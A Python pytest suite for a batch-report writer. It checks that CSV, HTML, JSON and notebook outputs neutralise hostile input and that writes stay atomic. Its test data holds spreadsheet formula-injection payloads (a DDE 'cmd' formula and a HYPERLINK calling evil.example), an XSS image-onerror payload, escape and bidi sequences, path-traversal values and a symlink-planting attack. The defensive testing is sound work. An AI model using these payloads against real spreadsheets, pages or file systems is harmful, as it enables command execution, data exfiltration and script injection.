"""The one writer of a batch folder: row names cannot take its files' places, no results.csv cell is a formula, HTML
shows text from elsewhere inert, and a failed, interrupted or killed write leaves the old report and no temporary
file (real files, real signals, a real file-size limit)."""

from __future__ import annotations

import csv
import errno
import json
import os
import re
import signal
import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from urllib.parse import unquote

import pytest

from spark_nb import _files
from spark_nb._files import write_atomically
from spark_nb.batch import ManifestError
from spark_nb.batch._manifest import check_manifest, rows_to_run
from spark_nb.batch._outcome import RowOutcome, RowStatus
from spark_nb.batch._report import (
    OWN_NAMES,
    gallery,
    outcomes_html,
    write_gallery,
    write_gallery_notebook,
    write_results_csv,
    write_rows_json,
)
from spark_nb.errors import SparkError, ValidationError, WriteError

from .conftest import TEST_KEY

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "\x1b[2J=1+1"]
SPREADSHEET_STARTS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def temporary_files(folder: Path) -> list[str]:
    """Every leftover temporary file under folder."""
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.name.endswith((".part", ".tmp")))


def hostile_outcomes() -> list[RowOutcome]:
    """One outcome per formula, the formula in every text column a row has."""
    return [RowOutcome(name=f, model=f, status=RowStatus.FAILED, task_id=f, cost=f, error=f, advice=f, duration=5.2)
            for f in FORMULAS]


def test_no_results_csv_cell_is_a_formula(tmp_path: Path) -> None:
    """Names, models, task ids, costs, errors and advice that start like formulas are written behind a quote mark
    (escape sequences gone); numbers stay numbers."""
    write_results_csv(tmp_path, hostile_outcomes())
    with (tmp_path / "results.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" ").startswith(SPREADSHEET_STARTS), (column, cell)
            assert "\x1b" not in cell and "\r" not in cell
        assert row["duration"] == "5.2" and row["status"] == "failed"
    assert rows[1]["task_id"] == "'=cmd|' /C calc'!A0" and rows[0]["name"].startswith("'=HYPERLINK(")
    assert temporary_files(tmp_path) == []


def test_hostile_text_is_inert_and_escaped_in_the_gallery_and_the_table(tmp_path: Path) -> None:
    """Markup, escape sequences and bidi overrides from a name, a task id or an error never reach the HTML raw."""
    odd = '<img src=x onerror=alert(1)>\x1b]0;title\x07\u202eevil'
    outcomes = [RowOutcome(name=odd, model=odd, status=RowStatus.FAILED, task_id=odd, error=odd + "\nline 2",
                           advice=odd)]
    page = write_gallery(tmp_path, outcomes).read_text()
    table = outcomes_html(outcomes)
    for html in (page, table):
        assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
        assert "\x1b" not in html and "\x07" not in html and "\u202e" not in html
    assert "line 2" in page


def test_the_gallery_notebook_is_a_valid_notebook_showing_hostile_text_inert_and_escaped(
        tmp_path: Path, media: dict[str, Path]) -> None:
    """gallery.ipynb holds the cards as its saved output: a valid notebook; markup, escape sequences and bidi
    overrides from a name, a task id, an error or advice are inert and escaped; every src and href in it is
    relative and inside the folder (a video from elsewhere is brought into media/), no absolute path anywhere."""
    import nbformat

    odd = '<img src=x onerror=alert(1)>\x1b]0;title\x07\u202eevil'
    outcomes = [RowOutcome(name=odd, model=odd, status=RowStatus.FAILED, task_id=odd, error=odd + "\nline 2",
                           advice=odd),
                RowOutcome("ok", "spark_avatar_imitator_v2v", RowStatus.COMPLETED, task_id="t1", video=media["driving"],
                           inputs={"image": str(media["portrait"]), "driving_video": str(media["driving"])})]
    out = tmp_path / "batch"
    out.mkdir()
    path = write_gallery_notebook(out, outcomes)
    text = path.read_text()
    notebook = nbformat.reads(text, as_version=4)
    nbformat.validate(notebook)
    (output,) = notebook.cells[1].outputs
    page = "".join(output.data["text/html"])
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page and "line 2" in page
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text and "\\u001b" not in text
    assert str(media["driving"].parent) not in text and str(tmp_path) not in text
    refs = re.findall(r'(?:src|href)="([^"]*)"', page)
    assert len(refs) == 3  # the video, the portrait's copy and the driving video's copy (no notebook link)
    for ref in refs:
        assert not ref.startswith(("/", "..")) and (out / unquote(ref)).resolve().is_relative_to(out.resolve())
        assert (out / unquote(ref)).is_file()
    assert temporary_files(tmp_path) == []


def test_results_csv_and_rows_json_name_only_files_inside_the_folder(tmp_path: Path, media: dict[str, Path]) -> None:
    """A row whose video the journal saw in another folder (an earlier run's): results.csv and rows.json name its
    copy in the batch folder (media/), never ../ (it read ../first_run/row/....mp4: moved or zipped, it broke)."""
    elsewhere = tmp_path / "first_run" / "row"
    elsewhere.mkdir(parents=True)
    video = elsewhere / "t1.mp4"
    video.write_bytes(media["driving"].read_bytes())
    out = tmp_path / "second_run"
    out.mkdir()
    outcomes = [RowOutcome("row", "spark_avatar_imitator_v2v", RowStatus.COMPLETED, task_id="t1", video=video,
                           inputs={"image": str(media["portrait"]), "driving_video": str(media["driving"])})]
    write_results_csv(out, outcomes)
    write_rows_json(out, outcomes)
    with (out / "results.csv").open(newline="") as f:
        (csv_row,) = list(csv.DictReader(f))
    (json_row,) = json.loads((out / "rows.json").read_text())["rows"]
    for relative in (csv_row["video"], json_row["video"], *json_row["inputs"].values()):
        assert not relative.startswith(("/", "..")) and (out / relative).is_file(), relative
        assert (out / relative).resolve().is_relative_to(out.resolve())
    assert (out / csv_row["video"]).read_bytes() == video.read_bytes()


def test_the_reports_say_nothing_of_the_disk_nor_a_urls_password(tmp_path: Path) -> None:
    """An error or advice naming local files by their absolute paths is written with their names only in
    results.csv, rows.json, index.html and gallery.ipynb (a folder made to be shared said where its maker keeps
    what); a URL input's user name and password are not in the gallery's label (its src is the URL as given: the
    picture needs it)."""
    out = tmp_path / "batch"
    out.mkdir()
    secret_dir = "/home/alice/clients/acme-secret-project"
    outcomes = [
        RowOutcome("r1", "spark_avatar_picture_omni_v2", RowStatus.FAILED, inputs={
            "image": "https://alice:hunter2@cdn.example/face.jpg"},
            error=f"image: no such file '{secret_dir}/face.jpg'; see ~/private/notes.txt",
            advice=f"the speech audio ({secret_dir}/speech.wav) is 17.0 s"),
    ]
    write_results_csv(out, outcomes)
    write_rows_json(out, outcomes)
    write_gallery(out, outcomes)
    write_gallery_notebook(out, outcomes)
    for name in ("results.csv", "rows.json", "index.html", "gallery.ipynb"):
        text = (out / name).read_text()
        assert "acme-secret-project" not in text and "/home/alice" not in text and "private/" not in text, name
        assert "face.jpg" in text and "speech.wav" in text and "notes.txt" in text, name
    page = (out / "index.html").read_text()
    assert 'title="image: https://cdn.example/face.jpg"' in page  # the label people read; the src is the URL


def test_gallery_from_someone_elses_rows_json_shows_and_copies_nothing_outside_its_folder(
        tmp_path: Path, media: dict[str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    """batch.gallery() draws a folder's rows.json, which may come with a folder from anyone: a path that leaves
    the folder (../, absolute) is neither shown nor brought into media/ (a private file would be copied into a
    folder meant for sharing); an unknown status is shown as unfinished; the text is escaped."""
    secret = tmp_path / "private.jpg"
    secret.write_bytes(media["portrait"].read_bytes())
    folder = tmp_path / "shared"
    (folder / "row").mkdir(parents=True)
    (folder / "row" / "v.mp4").write_bytes(media["driving"].read_bytes())
    rows = [{"name": "row", "model": "spark_avatar_imitator_v2v", "status": "completed", "video": "row/v.mp4",
             "notebook": "/etc/passwd", "inputs": {"image": "../private.jpg", "driving_video": str(secret)}},
            {"name": "<b>x</b>", "model": "m", "status": "owned", "video": "../private.jpg", "inputs": "no"}]
    (folder / "rows.json").write_text(json.dumps({"rows": rows}))
    monkeypatch.chdir(folder)
    page = gallery().data
    assert 'src="row/v.mp4"' in page and "private" not in page and "passwd" not in page
    assert "&lt;b&gt;x&lt;/b&gt;" in page and ">unfinished</span>" in page
    assert not (folder / "media").exists()
    (folder / "rows.json").write_text("[not json")
    assert "spark-gallery" in gallery().data  # an unreadable rows.json: an empty gallery, not a crash


def test_a_row_record_from_elsewhere_never_names_a_file_outside_its_folder(tmp_path: Path,
                                                                          media: dict[str, Path]) -> None:
    """A row folder's result.json answers for its row (the job notebook, a rerun) only with a video inside that
    folder: one naming ../ or an absolute path is no answer (the task is waited for as usual), and what origin()
    prints of a record is inert."""
    from spark_nb.batch._record import completed_here, origin, result_of

    outside = tmp_path / "private.mp4"
    outside.write_bytes(media["driving"].read_bytes())
    row = tmp_path / "batch" / "row"
    row.mkdir(parents=True)
    (row / "t1.mp4").write_bytes(media["driving"].read_bytes())
    for video in ("../../private.mp4", str(outside), "missing.mp4", 7):
        (row / "result.json").write_text(json.dumps({"task_id": "t1", "status": "completed", "video": video}))
        assert completed_here(row, "t1") is None, video
    record = {"task_id": "t1", "status": "completed", "video": "t1.mp4", "duration": 2.0, "cost": "0.10",
              "reused": {"task_id": "t1\x1b[2J", "made_at": "2026-12-07 03:57:09", "made_by": "a batch row"},
              "advice": ["the speech audio is 17.0 s\u202e"]}
    (row / "result.json").write_text(json.dumps(record))
    assert completed_here(row, "t2") is None and (found := completed_here(row, "t1")) is not None
    result = result_of(row, found)
    assert result.path == (row / "t1.mp4").resolve() and result.cost == Decimal("0.10") and result.duration == 2.0
    said = origin(row)
    assert said.startswith("reused task t1 from 2026-12-07 03:57:09 (made by a batch row)")
    assert "\x1b" not in said and "\u202e" not in said and "advice: the speech audio is 17.0 s" in said


def test_gallery_and_a_row_record_read_hostile_numbers_statuses_and_nesting_without_crashing(
        tmp_path: Path, media: dict[str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    """A rows.json from anyone with a 401-digit duration, a status that is a list or an object, or nested 100,000
    deep draws a gallery (before: OverflowError, TypeError, RecursionError, none a SparkError); a result.json
    with a 401-digit duration is a Result without a duration (before: OverflowError)."""
    from spark_nb.batch._record import completed_here, result_of

    folder = tmp_path / "shared"
    folder.mkdir()
    monkeypatch.chdir(folder)
    base = {"name": "r1", "model": "spark_avatar_picture_omni_v2", "status": "completed", "task_id": "t1",
            "cost": "0.30"}
    for hostile in ({"duration": 10 ** 400}, {"status": ["completed"]}, {"status": {"a": 1}}):
        (folder / "rows.json").write_text(json.dumps({"rows": [{**base, **hostile}]}))
        page = gallery().data
        assert "r1" in page and ("completed" in page) == ("duration" in hostile), hostile
    (folder / "rows.json").write_text('{"rows": ' + "[" * 100_000 + "]" * 100_000 + "}")
    assert "spark-gallery" in gallery().data

    row = folder / "r1"
    row.mkdir()
    (row / "t1.mp4").write_bytes(media["driving"].read_bytes())
    (row / "result.json").write_text(json.dumps({"task_id": "t1", "status": "completed", "video": "t1.mp4",
                                                 "duration": 10 ** 400}))
    record = completed_here(row, "t1")
    assert record is not None and result_of(row, record).duration is None
    (row / "result.json").write_text('{"task_id": "t1", "x": ' + "[" * 100_000 + "]" * 100_000 + "}")
    assert completed_here(row, "t1") is None


@pytest.mark.parametrize("name", ["index.html", "RESULTS.CSV", "rows.json", "Media", "gallery.ipynb"])
def test_a_row_named_like_the_batchs_own_files_is_refused(name: str, tmp_path: Path, media: dict[str, Path]) -> None:
    """A row may not take the name of the batch's own files and folders, in any case: the check says which names
    are taken, before anything runs; the other rows are valid."""
    assert name.lower() in OWN_NAMES
    manifest = tmp_path / "manifest.csv"
    manifest.write_text(f"name,model,image,audio\n{name},avatar,{media['portrait']},{media['speech']}\n"
                        f"fine,avatar,{media['portrait']},{media['speech']}\n")
    rows, invalid = check_manifest(manifest)
    assert [row.name for row in rows] == ["fine"]
    assert [row.name for row in invalid] == [name]
    assert "taken by the batch's own files and folders" in invalid[0].problems[0]
    assert all(own in invalid[0].problems[0] for own in OWN_NAMES)
    with pytest.raises(ManifestError, match=f"row 2: name '{name}' is taken"):
        rows_to_run(manifest)


def test_a_write_that_fails_leaves_the_old_file_and_no_temporary_one(tmp_path: Path) -> None:
    """A directory where the report goes (a row folder named index.html, before the manifest check refused it):
    the write fails with a SparkError naming the file and what to do (before: a bare IsADirectoryError), nothing
    half-written, no .part left; an ordinary failure the same."""
    (tmp_path / "index.html").mkdir()
    for write in (lambda: write_gallery(tmp_path, [RowOutcome("index.html", "m", RowStatus.COMPLETED, task_id="t0")]),
                  lambda: write_atomically(tmp_path / "index.html", "x")):
        with pytest.raises(WriteError) as info:
            write()
        assert isinstance(info.value, SparkError) and info.value.errno == errno.EISDIR
        assert str(tmp_path / "index.html") in str(info.value) and "a folder is in its place" in str(info.value)
    assert temporary_files(tmp_path) == []


WRITER = """
import os, resource, signal, sys, time
from pathlib import Path
import spark_nb._files as files
from spark_nb.batch._outcome import RowOutcome, RowStatus
from spark_nb.batch._report import write_gallery, write_gallery_notebook, write_results_csv, write_rows_json

out, mode = Path(sys.argv[1]), sys.argv[2]
signal.signal(signal.SIGINT, signal.default_int_handler)
outcomes = [RowOutcome(f"row{i}", "m", RowStatus.FAILED, task_id=f"t{i}", error="e" * 200) for i in range(3000)]
if mode == "fsize":  # a disk that fills up mid-write: writes past 64 KB fail with EFBIG
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536))
else:  # stop between writing the temporary file and renaming it, where a signal may land
    real_replace = os.replace
    def held_replace(src, dst):
        print("renaming", flush=True)
        time.sleep(60)
        real_replace(src, dst)
    files.os.replace = held_replace
for write in (write_results_csv, write_rows_json, write_gallery_notebook, write_gallery):
    try:
        write(out, outcomes)
    except OSError as exc:  # a WriteError (a SparkError) is an OSError too
        print(type(exc).__name__, exc.errno, flush=True)
"""


def _old_reports(out: Path) -> dict[str, bytes]:
    """Small, whole reports of one row, as an earlier run left them."""
    outcomes = [RowOutcome("earlier", "m", RowStatus.COMPLETED, task_id="t0")]
    for write in (write_results_csv, write_rows_json, write_gallery_notebook, write_gallery):
        write(out, outcomes)
    return {name: (out / name).read_bytes() for name in ("results.csv", "rows.json", "gallery.ipynb", "index.html")}


def test_a_full_disk_mid_write_leaves_the_old_reports_and_no_temporary_file(tmp_path: Path) -> None:
    """Every report write fails past a 64 KB file-size limit (EFBIG, as a full disk fails): each old report is
    intact and no temporary file is left."""
    old = _old_reports(tmp_path)
    proc = subprocess.run([sys.executable, "-c", WRITER, str(tmp_path), "fsize"], capture_output=True, text=True,
                          timeout=120)
    assert proc.stdout.count("WriteError 27") == 4, proc.stdout + proc.stderr  # EFBIG, once per report
    assert {name: (tmp_path / name).read_bytes() for name in old} == old
    assert temporary_files(tmp_path) == []


@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGKILL], ids=["SIGINT", "SIGKILL"])
def test_a_signal_mid_write_never_leaves_a_half_report_nor_a_lasting_temporary_file(how: signal.Signals,
                                                                                    tmp_path: Path) -> None:
    """A writer stopped between writing its temporary file and renaming it: Ctrl-C removes the temporary file at
    once; after SIGKILL the next run's final write (the gallery) removes it. The old report stays whole."""
    old = _old_reports(tmp_path)
    proc = subprocess.Popen([sys.executable, "-c", WRITER, str(tmp_path), "signal"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout.readline() == "renaming\n"  # type: ignore[union-attr]
        assert len(temporary_files(tmp_path)) == 1  # the new results.csv, written whole, waiting for its rename
        proc.send_signal(how)
        _, stderr = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(timeout=10)
    assert {name: (tmp_path / name).read_bytes() for name in old} == old
    if how == signal.SIGINT:
        assert "KeyboardInterrupt" in stderr and temporary_files(tmp_path) == []
    else:
        assert len(temporary_files(tmp_path)) == 1  # a killed process cleans up nothing
        write_gallery(tmp_path, [RowOutcome("earlier", "m", RowStatus.COMPLETED, task_id="t0")])
        assert temporary_files(tmp_path) == []
    with (tmp_path / "results.csv").open(newline="") as f:
        assert [row["name"] for row in csv.DictReader(f)] == ["earlier"]
    assert json.loads((tmp_path / "rows.json").read_text())["rows"][0]["name"] == "earlier"


def test_no_part_file_is_written_through_a_link_planted_at_its_name(tmp_path: Path, media: dict[str, Path],
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Another user plants a symlink where a report's temporary file is about to be made (its name had been
    predictable: pid and thread): the write fails, the link's target is untouched (before: overwritten)."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    real = _files.part_path

    def planted(path: Path, *args: str) -> Path:
        part = real(path, *args)
        part.symlink_to(victim)
        return part

    monkeypatch.setattr(_files, "part_path", planted)
    out = tmp_path / "out"
    out.mkdir()
    for write in (lambda: write_atomically(out / "results.csv", "name\n"),
                  lambda: write_rows_json(out, [RowOutcome("a", "m", RowStatus.COMPLETED, task_id="t0")]),
                  lambda: _files.link_atomically(media["speech"], out / "speech.wav")):
        with pytest.raises(OSError):
            write()
    assert victim.read_text(encoding="utf-8") == "precious"
    assert not (out / "results.csv").exists() and not (out / "speech.wav").exists()


def _obstacle(case: str, out: Path) -> None:
    if case == "out is a file":
        out.write_text("x")
        return
    out.mkdir()
    if case == "a folder at results.csv":
        (out / "results.csv").mkdir()
    elif case == "a folder at index.html":
        (out / "index.html").mkdir()
    elif case == "a file at media":
        (out / "media").write_text("x")
    elif case == "a file at a row's folder":
        (out / "alice").write_text("x")
    elif case == "a FIFO at rows.json":
        os.mkfifo(out / "rows.json")


@pytest.mark.parametrize("case", ["out is a file", "a folder at results.csv", "a folder at index.html",
                                  "a file at media", "a file at a row's folder", "a FIFO at rows.json"])
def test_an_obstacle_in_the_output_folder_is_refused_before_anything_is_paid(
        case: str, tmp_path: Path, media: dict[str, Path], make_server: type,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Something already where the batch writes (a folder named results.csv, the output folder a file, a file
    where a row's folder goes): refused with a ValidationError naming it, nothing uploaded or created, nothing
    changed in the folder. Before, every row was paid for, then the batch crashed with IsADirectoryError or
    FileExistsError, on every rerun too."""
    from spark_nb.batch import run_batch

    from .test_batch import use_server, write_manifest

    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    manifest = write_manifest(tmp_path, [
        {"name": name, "model": "avatar", "image": str(media["portrait"]), "audio": str(media["speech"])}
        for name in ("alice", "bob")])
    out = tmp_path / "out"
    _obstacle(case, out)
    before = sorted(p.name for p in out.iterdir()) if out.is_dir() else out.read_text()
    with pytest.raises(ValidationError) as info:
        run_batch(manifest, out, progress=False)
    assert info.value.reason == "unusable_output_dir" and "nothing was run or paid" in str(info.value)
    assert str(out) in str(info.value)
    assert server.stats()["created"] == server.stats()["uploads"] == 0
    assert (sorted(p.name for p in out.iterdir()) if out.is_dir() else out.read_text()) == before


def test_the_cli_refuses_an_obstacle_in_one_line_before_anything_runs(tmp_path: Path, media: dict[str, Path],
                                                                      make_server: type) -> None:
    """`spark-nb batch` with a folder named index.html in --out: exit 1, one `spark-nb: error:` line naming it,
    no traceback, nothing created."""
    from .test_batch import write_manifest

    server = make_server(api_key=TEST_KEY)
    manifest = write_manifest(tmp_path, [{"name": "alice", "model": "avatar", "image": str(media["portrait"]),
                                          "audio": str(media["speech"])}])
    (tmp_path / "out" / "index.html").mkdir(parents=True)
    env = {**os.environ, "VTRIX_API_KEY": TEST_KEY, "VTRIX_GENERATION_URL": server.url, "SPARK_NB_BACKEND": "cloud",
           "SPARK_NB_UPLOAD_URL": f"{server.url}/api/v1/storage/files"}
    proc = subprocess.run([sys.executable, "-m", "spark_nb", "batch", str(manifest), "--out", str(tmp_path / "out")],
                          capture_output=True, text=True, env=env, timeout=120)
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.startswith("spark-nb: error: the batch cannot write into its output folder")
    assert str(tmp_path / "out" / "index.html") in proc.stderr and "Traceback" not in proc.stderr
    assert server.stats()["created"] == server.stats()["uploads"] == 0
